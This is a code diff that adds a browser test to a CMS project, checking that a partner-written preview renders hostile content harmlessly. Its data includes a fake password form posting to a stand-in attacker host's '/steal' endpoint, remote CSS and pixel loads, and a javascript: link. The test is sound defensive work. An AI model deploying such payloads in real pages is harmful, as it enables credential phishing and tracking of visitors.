@@ -5,7 +5,7 @@
  * files are checked against the schemas and the copy is built to show them.
  */
 import { execFileSync, spawnSync } from 'node:child_process';
-import { existsSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -14,6 +14,7 @@ import { axeViolations, launchBrowser } from './browser';
 import { choose, openAdminAt, saveAndPublish } from './cms-ui';
 import { copyOfProject, developerEnv } from '../project-copy';
 import { startCmsServer, type CmsServer } from './cms-server';
+import { ATTACKER_HOST, MARKER, partner } from '../hostile/corpus';
 
 let browser: Browser;
 let repo: string;
@@ -122,6 +123,48 @@ describe('editing through the workflow', () => {
     // The calculator island on the tier page is handed the new rate.
     expect(gold).toContain('&quot;referralCommission&quot;:[0,23.5]');
   }, 180_000);
+});
+
+describe('previewing what a partner wrote', () => {
+  it('shows a hostile body the way the site does: raw HTML as text, no form, nothing from elsewhere', async () => {
+    const body = [
+      '## Session expired',
+      `<form action="https://${ATTACKER_HOST}/steal"><input name="password" placeholder="Password"><button>Sign in again</button></form>`,
+      `<style>@import url(https://${ATTACKER_HOST}/x.css); body { background: url(https://${ATTACKER_HOST}/bg.png) }</style>`,
+      `<img src="https://${ATTACKER_HOST}/raw-pixel.png">`,
+      `![pixel](https://${ATTACKER_HOST}/pixel.png)`,
+      `[phish](javascript:alert('${MARKER}'))`,
+    ].join('\n\n');
+    writeFileSync(join(repo, 'content/partners/hostile-preview.md'), partner('Hostile Preview', { body }));
+    git('add', '--all');
+    git('commit', '--quiet', '--message', 'A partner profile to preview');
+
+    const { page, errors } = await openAdmin();
+    // Requests to other hosts that were not stopped by the page's policy.
+    const elsewhere: string[] = [];
+    page.context().on('requestfinished', (request) => {
+      if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) elsewhere.push(request.url());
+    });
+    page.context().on('requestfailed', (request) => {
+      const blocked = request.failure()?.errorText === 'csp';
+      if (!request.url().startsWith(server.url) && !blocked) elsewhere.push(request.url());
+    });
+    await page.goto(`${server.url}/admin/#/collections/partners/entries/hostile-preview`);
+    const preview = page.locator('iframe').first().contentFrame();
+    await preview.getByRole('heading', { name: 'Session expired' }).waitFor();
+    await page.waitForLoadState('networkidle');
+    const prose = preview.locator('.prose').filter({ hasText: 'Session expired' });
+    await expect(prose.locator('form, input, button, style, link, img').count()).resolves.toBe(0);
+    await expect(prose.getByText('<form action=').count()).resolves.toBeGreaterThan(0);
+    await expect(prose.locator('a[href^="javascript:"]').count()).resolves.toBe(0);
+    await expect(preview.locator('form').count()).resolves.toBe(0);
+    expect(elsewhere).toEqual([]);
+    // The editor pane shows the body's image too; the page's policy refuses to load it, and says so.
+    const refused = errors.filter((error) => /Content Security Policy/.test(error));
+    expect(refused.every((error) => error.includes(ATTACKER_HOST))).toBe(true);
+    expect(errors.filter((error) => !refused.includes(error))).toEqual([]);
+    await page.context().close();
+  });
 });
 
 describe('refusing what the build would reject', () => {
